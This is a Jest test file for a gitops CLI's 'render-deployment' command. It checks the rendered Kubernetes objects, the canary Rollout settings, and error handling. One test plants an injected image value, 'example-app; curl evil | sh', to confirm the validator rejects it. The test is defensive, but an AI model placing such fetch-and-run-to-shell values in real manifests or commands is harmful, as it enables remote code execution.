import fs from 'node:fs';
import path from 'node:path';
import { parseAllDocuments } from 'yaml';
import { runCli } from './program';
import { capture, exampleApp, exampleCopy } from './__testUtils__/cli';

const sha = '439ac5d0c1b2a3f4e5d6c7b8a9f0e1d2c3b4a5f6';

describe('gitops render-deployment', () => {
  it('renders example-app for a commit as multi-document YAML', async () => {
    const { out, io } = capture();
    expect(
      await runCli(
        [
          'render-deployment',
          exampleApp,
          '--commit',
          sha,
          '--environment',
          'production',
        ],
        io,
      ),
    ).toBe(0);
    const objects = parseAllDocuments(out.stdout).map(d => d.toJS());
    expect(objects.map(o => `${o.kind}/${o.metadata.name}`)).toEqual([
      'Namespace/example-app',
      'IAMPartialPolicy/example-app-db.iam-user-auth',
      'SQLInstance/example-app-db',
      'Service/example-app',
      'Service/example-canary',
      'AnalysisTemplate/java-backend',
      'Rollout/example-app',
    ]);
    const rollout = objects.find(o => o.kind === 'Rollout');
    expect(rollout.spec.strategy.canary).toMatchObject({
      canaryService: 'example-canary',
      stableService: 'example-app',
    });
    expect(rollout.spec.template.spec.containers[0].image).toBe(
      `example-app:${sha}`,
    );
    expect(rollout.metadata.labels['backstage.io/kubernetes-id']).toBe(
      'example-app',
    );
  });

  it('exits 1 on a bad commit, naming it', async () => {
    const { out, io } = capture();
    expect(
      await runCli(['render-deployment', exampleApp, '--commit', 'main'], io),
    ).toBe(1);
    expect(out.stdout).toBe('');
    expect(out.stderr).toMatch(/commit/);
  });

  it('exits 1 with positions for a manifest with a shell-injected image', async () => {
    const dir = exampleCopy();
    const file = path.join(dir, 'kubernetes/deployment.yaml');
    fs.writeFileSync(
      file,
      fs
        .readFileSync(file, 'utf8')
        .replace('image: example-app', 'image: "example-app; curl evil | sh"'),
    );
    const { out, io } = capture();
    expect(await runCli(['render-deployment', dir, '--commit', sha], io)).toBe(
      1,
    );
    expect(out.stderr).toMatch(/kubernetes\/deployment\.yaml:\d+:\d+: .*image/);
  });
});
